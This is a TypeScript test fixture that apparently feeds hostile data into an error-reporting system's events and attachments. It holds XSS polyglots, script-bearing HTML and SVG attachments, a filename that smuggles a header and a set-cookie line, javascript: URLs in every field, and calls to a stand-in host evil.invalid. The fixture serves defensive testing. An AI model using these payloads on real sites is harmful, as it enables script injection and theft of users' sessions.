import type { Attached } from './client.ts';

const RUN = `globalThis.xss=1;alert(1);fetch('http://evil.invalid/')`;

/** Texts that break out of many contexts at once: elements, attributes, scripts, addresses, templates, comments, styles. */
export const POLYGLOTS: readonly string[] = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `"'--></style></script></title></textarea><img src=x onerror="${RUN}"><svg/onload=${RUN}><iframe srcdoc="<script>parent.xss=1</script>">`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}<%= ${RUN} %>#{${RUN}}`,
  `<a href="javascript:${RUN}">press</a><base href="http://evil.invalid/"><link rel=stylesheet href=http://evil.invalid/x.css><meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
  `[press](javascript:${RUN}) ![x](http://evil.invalid/x.png) <details open ontoggle=${RUN}><xss autofocus tabindex=1 onfocus=${RUN}>`,
];

/** Pictures that are none, pages that would run, and a name that breaks out of a header and an attribute. */
export const ATTACHMENTS: readonly Attached[] = [
  { name: 'page.html', type: 'text/html', content: `<script>${RUN}</script>` },
  {
    name: 'picture.svg',
    type: 'image/svg+xml',
    content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  },
  { name: 'no-picture.png', type: 'image/png', content: `<script>${RUN}</script>` },
  { name: 'told.json', type: 'application/json', content: JSON.stringify({ page: `<img src=x onerror="${RUN}">` }) },
  { name: '"><img src=x onerror=alert(1)>\r\nset-cookie: a=b.txt', type: 'text/plain"><script>alert(1)</script>', content: 'text' },
];

/** One text in every field that an SDK can fill, as value and, where names are free, as name. */
export function hostileEvent(text: string): object {
  const bag = {
    [text]: text,
    plain: text,
    deep: { [text]: [text, { text }] },
    url: `javascript:${RUN}`,
    type: text,
    name: text,
    version: text,
  };
  const place = { filename: text, abs_path: `javascript:${RUN}`, module: text, function: text, package: text };
  const frame = { ...place, context_line: text, pre_context: [text], post_context: [text], lineno: 1, colno: 3, in_app: true, vars: bag };
  const stacktrace = { frames: [{ ...frame, in_app: false }, frame] };
  const exception = (type: string) => ({
    type,
    value: text,
    module: text,
    thread_id: 1,
    mechanism: {
      type: text,
      handled: false,
      description: text,
      help_link: `javascript:${RUN}`,
      data: bag,
      meta: { signal: { name: text } },
    },
    stacktrace,
  });
  return {
    platform: 'javascript',
    level: 'error',
    logger: text,
    server_name: text,
    transaction: text,
    release: text,
    dist: text,
    environment: text.replaceAll('/', ' '),
    message: { formatted: text, message: text, params: [text] },
    logentry: { formatted: text, message: text, params: [text] },
    culprit: text,
    exception: { values: [exception(text), exception('Error')] },
    threads: {
      values: [
        { id: 1, name: text, crashed: true, current: true, state: text, stacktrace },
        { id: 2, name: text, stacktrace },
      ],
    },
    stacktrace,
    breadcrumbs: { values: breadcrumbs(text, bag) },
    tags: { plain: text, [text.replaceAll(/[^a-z]/gi, '').slice(0, 30)]: text, url: `javascript:${RUN}`, browser: text, [text]: text },
    extra: bag,
    modules: { [text]: text },
    user: {
      id: text,
      email: text,
      username: text,
      name: text,
      ip_address: text,
      data: bag,
      geo: { city: text, region: text, country_code: text },
    },
    request: {
      url: `javascript:${RUN}`,
      method: text,
      query_string: [[text, text]],
      fragment: text,
      cookies: [[text, text]],
      headers: [
        [text, text],
        ['User-Agent', text],
        ['Referer', `javascript:${RUN}`],
        ['Host', text],
      ],
      data: bag,
      env: bag,
    },
    contexts: contexts(text, bag),
    sdk: { name: text, version: text, packages: [{ name: text, version: text }], integrations: [text] },
    debug_meta: { images: [{ type: 'sourcemap', code_file: text, debug_id: text }] },
    fingerprint: [text],
    errors: [{ type: text, name: text, value: text }],
    _meta: { message: { '': { rem: [[text, 's', 0, 5]], err: [text] } } },
  };
}

function breadcrumbs(text: string, bag: object): readonly object[] {
  const at = Date.now() / 1000 - 1;
  return [
    { timestamp: at, type: text, category: text, message: text, level: 'error', data: bag },
    { timestamp: at, type: 'http', category: 'fetch', data: { url: `javascript:${RUN}`, method: text, status_code: text, reason: text } },
    { timestamp: at, type: 'navigation', category: 'navigation', data: { from: text, to: `javascript:${RUN}` } },
    { timestamp: at, type: 'ui', category: 'ui.click', message: text },
    { timestamp: at, type: 'query', category: 'query', message: text },
  ];
}

function contexts(text: string, bag: object): object {
  const known = ['os', 'browser', 'runtime', 'device', 'app', 'gpu', 'culture', 'response', 'cloud_resource', 'otel', 'state', 'react'];
  return {
    ...Object.fromEntries(known.map((name) => [name, { ...bag, type: name }])),
    [text]: bag,
    own: bag,
    trace: { trace_id: '0'.repeat(31) + '1', span_id: '0'.repeat(15) + '1', op: text, description: text, status: text, data: bag },
    flags: { values: [{ flag: text, result: text }] },
    feedback: { message: text, contact_email: text, name: text, url: `javascript:${RUN}` },
  };
}
